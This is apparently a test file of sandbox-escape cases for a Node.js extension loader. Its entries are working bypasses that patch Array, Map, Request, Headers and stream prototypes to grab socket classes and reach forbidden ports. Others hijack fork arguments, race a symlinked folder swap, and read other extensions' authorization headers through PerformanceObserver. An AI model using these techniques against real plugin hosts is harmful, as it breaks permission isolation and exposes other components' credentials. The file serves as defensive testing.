'use strict'

// Round 5, written from the loader as it was on the day of commit 998ef62: how Node walks
// lists with something real in them, what emitters tell their classes, requests of fetch
// and connections of WebSocket that the loader makes, observers, folders that are opened
// and not pinned, and what a loader takes of the language when another came first.

const CLASS = { 1: 'realm', 3: 'state', 4: 'strings', 5: 'views', 6: 'network', 7: 'races', 8: 'children', 9: 'network', 13: 'state' }
const a = (name, inv, code, more) => ({ name, inv, class: CLASS[inv], round: 5, code, ...more })
const ANY = { policy: { 'network.listen': ['127.0.0.1:*'], 'network.connect': ['http://127.0.0.1:*'] } }
const HTTPS = { policy: p => ({ 'network.connect': ['https://127.0.0.1:' + p.allowed] }) }
const REACH = { goal: 'reach', wait: 900 }
const WATCHED = { goal: 'said', kind: 'interference', class: 'state', wait: 900, after: () => { const http = require('http'); const s = http.createServer((q, w) => w.end('x')).listen(0, '127.0.0.1', () => http.get({ host: '127.0.0.1', port: s.address().port, headers: { authorization: 'yes' } }, r => r.resume())) } }

module.exports = [
  // How lists are walked.
  a('the walk of lists replaced while a request is under way', 5, () => { const { isProxy } = require('util').types; let C; const A = Array.prototype; const it = A[Symbol.iterator]; require('https').get('https://127.0.0.1:' + T.allowed).on('error', () => {}); queueMicrotask(() => { A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && typeof v.connect === 'function') C = Object.getPrototypeOf(v.constructor.prototype).constructor } return Reflect.apply(it, this, []) } }); setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 300) }, { ...REACH, ...HTTPS }),
  a('the walk of lists replaced by a getter that nobody can take back', 5, () => { const { isProxy } = require('util').types; let C; const A = Array.prototype; const it = A[Symbol.iterator]; Object.defineProperty(A, Symbol.iterator, { configurable: false, get() { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && typeof v.connect === 'function') C = Object.getPrototypeOf(v.constructor.prototype).constructor } return it } }); require('https').get('https://127.0.0.1:' + T.allowed).on('error', () => {}); setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 300) }, { ...REACH, ...HTTPS }),
  a('the streams of http2 by what is called later', 5, () => {
    const { isProxy } = require('util').types
    const A = Array.prototype
    const it = A[Symbol.iterator]
    let C
    A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && v.session && v.session.socket) { try { C = C || v.session.socket.constructor } catch { } } } return Reflect.apply(it, this, []) }
    setTimeout(() => {
      const c = require('http2').connect('http://127.0.0.1:' + require('fs').readFileSync(T.work + '/port', 'utf8'))
      c.on('error', () => {})
      const r = c.request({ ':path': '/' })
      r.on('error', () => {})
      r.resume()
      r.end()
    }, 200)
    setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 700)
  }, { ...REACH, wait: 1200, ...ANY, before: () => { const s = require('http2').createServer((q, w) => w.end('x')).listen(0, '127.0.0.1', () => require('fs').writeFileSync(require('path').join(__dirname, 'ext', 'work', 'port'), '' + s.address().port)) } }),
  a('the options of an agent, as they are spread', 9, () => { const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { const o = this[0]; if (o && typeof o === 'object' && o.port === T.allowed) o.port = T.port; return Reflect.apply(it, this, []) }; require('http').get({ host: '127.0.0.1', port: T.allowed }).on('error', () => {}) }, { ...REACH, needs: 22 }),
  a('the options of an agent by a walk replaced in the middle of the call', 9, () => { const A = Array.prototype; const it = A[Symbol.iterator]; const o = { host: '127.0.0.1', port: T.allowed, headers: { host: 'x' } }; const { indexOf } = String.prototype; String.prototype.indexOf = function (...x) { A[Symbol.iterator] = function () { const v = this[0]; if (v && typeof v === 'object' && v.port === T.allowed) v.port = T.port; return Reflect.apply(it, this, []) }; return Reflect.apply(indexOf, this, x) }; require('http').get(o).on('error', () => {}) }, { ...REACH, needs: 24 }),
  a('what an agent calls with its connection, called with another', 5, () => {
    const A = Array.prototype
    const it = A[Symbol.iterator]
    const { EventEmitter } = require('events')
    const fake = Object.assign(new EventEmitter(), { setTimeout() {}, setNoDelay() {}, setKeepAlive() {}, ref() {}, unref() {}, cork() {}, uncork() {}, write() { return true }, end() {}, destroy() {}, pause() {}, resume() {}, _handle: { getAsyncId: () => 1, isStreamBase: false }, writable: true, readable: true })
    let once = false
    A[Symbol.iterator] = function () { if (!once && typeof this[1] === 'function' && this[0] && this[0].port === T.allowed) { once = true; try { this[1](null, fake) } catch { } } return Reflect.apply(it, this, []) }
    require('http').get({ host: '127.0.0.1', port: T.allowed }).on('error', () => {})
    setTimeout(() => { const m = fake._httpMessage; m.agent.createConnection({ host: '127.0.0.1', port: T.port }).on('error', () => {}) }, 300)
  }, { ...REACH, needs: 22 }),
  a('the walk of the flags of a fork', 8, () => { const A = Array.prototype; const it = A[Symbol.iterator]; const own = T.work + '/own.js'; require('fs').writeFileSync(own, 'require("fs").writeFileSync(' + JSON.stringify(T.mark) + ', "x")'); const list = [own]; A[Symbol.iterator] = function () { return Reflect.apply(it, this.length === 0 && new Error().stack.includes('fork (node:') ? list : this, []) }; require('child_process').fork(__dirname + '/w.js', []) }, { goal: 'mark', wait: 1500, files: { 'w.js': '' } }),
  a('the names of the environment of a child, as they are walked', 8, () => { const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { return Reflect.apply(it, this.length > 0 && this[0] === 'PATH' ? [] : this, []) }; const { stdout } = require('child_process').spawnSync('env', [], { encoding: 'utf8', env: { PATH: process.env.PATH } }); if (typeof stdout === 'string' && !stdout.includes('PATH=')) say('yes') }, { goal: 'said', policy: { processes: [{ command: 'env', args: [] }], 'env.read': ['PATH'] } }),
  a('the next of tables and sets that Node walks', 5, () => { const { isProxy } = require('util').types; let C; for (const I of [new Map().entries(), new Set().values()]) { const P = Object.getPrototypeOf(I); const { next } = P; const see = v => { if (v && typeof v === 'object' && !isProxy(v)) { if (typeof v.connect === 'function') C = v.constructor; else if (Array.isArray(v)) for (let i = 0; i < v.length; i++) see(v[i]) } }; try { P.next = function () { const r = Reflect.apply(next, this, []); see(r.value); return r } } catch { } } const s = new Set(); s.add({ connect() {}, constructor: require('net').Socket }); for (const v of s) void v; new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, { ...REACH }),

  // What emitters tell their classes when a listener's promise is rejected.
  a('what a server of HTTP was asked, when its listener fails later', 5, () => { const events = require('events'); const { isProxy } = require('util').types; events.captureRejections = true; let C; const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && v.httpVersion && v.socket) C = v.socket.constructor } return Reflect.apply(it, this, []) }; const http = require('http'); const s = http.createServer(async () => { throw new Error('x') }).listen(0, '127.0.0.1', () => http.get({ host: '127.0.0.1', port: s.address().port }, r => r.resume()).on('error', () => {})); setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 350) }, { ...REACH, ...ANY }),
  a('what a server was connected with, when its listener fails later', 5, () => { const events = require('events'); const { isProxy } = require('util').types; events.captureRejections = true; let C; const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && typeof v.connect === 'function') C = v.constructor } return Reflect.apply(it, this, []) }; const net = require('net'); const s = net.createServer(async c => { c.on('error', () => {}); c.end(); throw new Error('x') }).listen(0, '127.0.0.1', () => net.connect(s.address().port, '127.0.0.1').on('error', () => {})); setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 350) }, { ...REACH, policy: { 'network.listen': ['127.0.0.1:*'], 'network.connect': ['tcp://127.0.0.1:*'] } }),
  a('what a request was answered, when its listener fails later', 5, () => { const events = require('events'); const { isProxy } = require('util').types; events.captureRejections = true; let C; const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && v.httpVersion && v.socket) C = v.socket.constructor } return Reflect.apply(it, this, []) }; require('http').get({ host: '127.0.0.1', port: T.allowed }).on('error', () => {}).on('response', async () => { throw new Error('x') }); setTimeout(() => { new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 350) }, { ...REACH }),
  a('what a listener answers is asked for "then" by an emitter', 5, () => { const events = require('events'); events.captureRejections = true; const { isProxy } = require('util').types; require('http').get({ host: '127.0.0.1', port: T.allowed }, () => ({ then(ok, no) { const e = new Error('x'); no(e) } })).on('error', () => {}); const A = Array.prototype; const it = A[Symbol.iterator]; A[Symbol.iterator] = function () { for (let i = 0; i < this.length; i++) { const v = this[i]; if (v && typeof v === 'object' && !isProxy(v) && v.httpVersion && v.socket) { new v.socket.constructor().on('error', () => {}).connect(T.port, '127.0.0.1') } } return Reflect.apply(it, this, []) } }, { ...REACH }),

  // fetch and WebSocket, which the loader sends itself.
  a('a class of requests that say another address', 9, () => { class R extends Request { get url() { return 'http://127.0.0.1:' + T.allowed + '/' } } ; fetch(new R('http://127.0.0.1:' + T.port)).catch(() => {}) }, { ...REACH }),
  a('the address of a request, replaced for everybody', 9, () => { const d = Object.getOwnPropertyDescriptor(Request.prototype, 'url'); Object.defineProperty(Request.prototype, 'url', { ...d, get() { return d.get.call(this).replace(String(T.port), String(T.allowed)) } }); fetch('http://127.0.0.1:' + T.port).catch(() => {}) }, { ...REACH }),
  a('the headers of an answer, replaced for everybody', 9, () => { const { get } = Headers.prototype; Headers.prototype.get = function (n) { return n === 'location' ? 'http://127.0.0.1:' + T.port + '/' : Reflect.apply(get, this, [n]) }; Object.defineProperty(Response.prototype, 'status', { get: () => 302 }); const f = (u, n) => fetch(u, { redirect: 'manual' }).then(r => { if (r.status === 302 && n > 0) return f(r.headers.get('location'), n - 1) }); f('http://127.0.0.1:' + T.allowed, 1).catch(() => {}) }, { ...REACH }),
  a('the stream of the body of a request of fetch', 5, () => { const { getReader } = ReadableStream.prototype; ReadableStream.prototype.getReader = function (...x) { return { read: async () => ({ done: false, value: { get length() { say((new Error().stack.includes('ClientRequest')) ? 'no' : 'no'); return 0 } } }) } }; const { write } = require('http').OutgoingMessage.prototype; void getReader; void write; require('http').OutgoingMessage.prototype.write = function () { const C = this.socket && this.socket.constructor; if (C) new C().connect(T.port, '127.0.0.1') ; return true }; fetch('http://127.0.0.1:' + T.allowed, { method: 'POST', duplex: 'half', body: new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(3)); c.close() } }) }).catch(() => {}); require('http').request({ host: '127.0.0.1', port: T.allowed, method: 'POST' }).on('error', () => {}).on('socket', function () { setTimeout(() => this.write('x'), 50) }) }, { ...REACH }),
  a('the dispatcher of a WebSocket, for another address', 9, () => {
    const { push } = Array.prototype
    const { set } = Map.prototype
    let D
    const see = v => { const d = v && v.dispatcher ? v.dispatcher : v; if (d && typeof d === 'object' && typeof d.dispatch === 'function') D = d }
    Array.prototype.push = function (...x) { for (const v of x) see(v); return Reflect.apply(push, this, x) }
    Map.prototype.set = function (k, v) { see(v); see(k); return set.call(this, k, v) }
    const { get } = WeakRef.prototype
    void get
    new WebSocket('ws://127.0.0.1:' + T.allowed)
    fetch('http://127.0.0.1:' + T.allowed).catch(() => {})
    setTimeout(() => { Array.prototype.push = push; Map.prototype.set = set; const d = typeof D.constructor === 'function' ? new D.constructor('http://127.0.0.1:' + T.port) : D; d.dispatch({ origin: 'http://127.0.0.1:' + T.port, path: '/', method: 'GET', headers: {} }, { onConnect() {}, onHeaders() {}, onData() {}, onComplete() {}, onError() {}, onUpgrade() {}, onRequestStart() {}, onResponseStart() {}, onResponseData() {}, onResponseEnd() {}, onResponseError() {} }) }, 300)
  }, { ...REACH, wait: 1200, needs: 22, policy: p => ({ 'network.connect': ['ws://127.0.0.1:' + p.allowed, 'http://127.0.0.1:' + p.allowed] }) }),
  a('the client of what another extension fetches', 5, () => {
    const { push } = Array.prototype
    const { set } = Map.prototype
    let C
    const see = v => { const d = v instanceof WeakRef ? v.deref() : v && v.dispatcher ? v.dispatcher : v; if (d && typeof d === 'object' && typeof d.dispatch === 'function') C = d.constructor }
    Array.prototype.push = function (...x) { for (const v of x) see(v); return Reflect.apply(push, this, x) }
    Map.prototype.set = function (k, v) { see(v); return set.call(this, k, v) }
    setTimeout(() => { Array.prototype.push = push; Map.prototype.set = set; new C('http://127.0.0.1:' + T.port).dispatch({ origin: 'http://127.0.0.1:' + T.port, path: '/', method: 'GET' }, { onConnect() {}, onHeaders() {}, onData() {}, onComplete() {}, onError() {}, onRequestStart() {}, onResponseStart() {}, onResponseData() {}, onResponseEnd() {}, onResponseError() {} }) }, 500)
  }, { ...REACH, wait: 1300, after: () => { const s = require('http').createServer((q, w) => w.end('x')).listen(0, '127.0.0.1', () => fetch('http://127.0.0.1:' + s.address().port).catch(() => {})) } }),

  // Observers.
  a('requests of others by an observer of a kind that is no text', 6, () => { for (const type of ['http', { toString: () => 'http' }, ['http']]) try { new PerformanceObserver(tell).observe({ type }) } catch { } function tell(l) { for (const e of l.getEntries()) if (e.detail && e.detail.req && e.detail.req.headers && e.detail.req.headers.authorization) say(e.detail.req.headers.authorization) } }, WATCHED),
  a('requests of others by an observer whose kinds change as they are read', 6, () => { let n = 0; const { PerformanceObserver } = require('perf_hooks'); for (const kind of ['http', { toString: () => (n++ % 2 === 0 ? 'mark' : 'http') }]) try { new PerformanceObserver(tell).observe({ entryTypes: [kind] }) } catch { } function tell(l) { for (const e of l.getEntries()) if (e.detail && e.detail.req && e.detail.req.headers && e.detail.req.headers.authorization) say(e.detail.req.headers.authorization) } }, WATCHED),
  a('addresses that others fetched, in the timeline', 3, () => { setTimeout(() => { if (performance.getEntriesByType('resource').some(e => e.name.includes('of-another'))) say('yes') }, 900) }, { goal: 'said', kind: 'interference', wait: 1400, after: () => { const s = require('http').createServer((q, w) => w.end('x')).listen(0, '127.0.0.1', () => fetch('http://127.0.0.1:' + s.address().port + '/of-another').then(r => r.text())) } }),

  // Folders, and the language as a later loader finds it.
  a('a worker swaps a folder while it is opened for its entries', 7, () => {
    const fs = require('fs')
    const w = new (require('worker_threads').Worker)(__dirname + '/w.js')
    w.on('online', () => { const end = Date.now() + 2300; while (Date.now() < end) { try { const d = fs.opendirSync(T.work + '/d'); for (let e = d.readSync(); e; e = d.readSync()) if (e.name === 'only-outside') { say('yes'); return } d.closeSync() } catch { } } })
  }, { goal: 'said', wait: 3600, files: { 'w.js': () => {
    const fs = require('fs')
    const p = T.work + '/'
    const end = Date.now() + 2500
    while (Date.now() < end) { try { fs.renameSync(p + 'd', p + 'd1'); fs.renameSync(p + 'l', p + 'd'); fs.renameSync(p + 'd', p + 'l'); fs.renameSync(p + 'd1', p + 'd') } catch { } }
  } }, setup: (T, fs) => { fs.mkdirSync(T.work + '/d'); fs.writeFileSync(T.out + '/only-outside', ''); fs.symlinkSync(T.out, T.work + '/l') } }),
  a('the methods of lists that a later loader of another version takes', 1, () => { const { push } = Array.prototype; const { isProxy } = require('util').types; let C; Array.prototype.push = function (...x) { for (let i = 0; i < x.length; i++) { const v = x[i]; if (v && typeof v === 'object' && !isProxy(v) && typeof v.connect === 'function') C = v.constructor } return Reflect.apply(push, this, x) }; setTimeout(() => { Array.prototype.push = push; new C().on('error', () => {}).connect(T.port, '127.0.0.1') }, 350) }, { ...REACH, alone: true, neighbour: { other: true, code: () => { require('http').get({ host: '127.0.0.1', port: T.allowed }, r => r.resume()).on('error', () => {}) } } }),
]
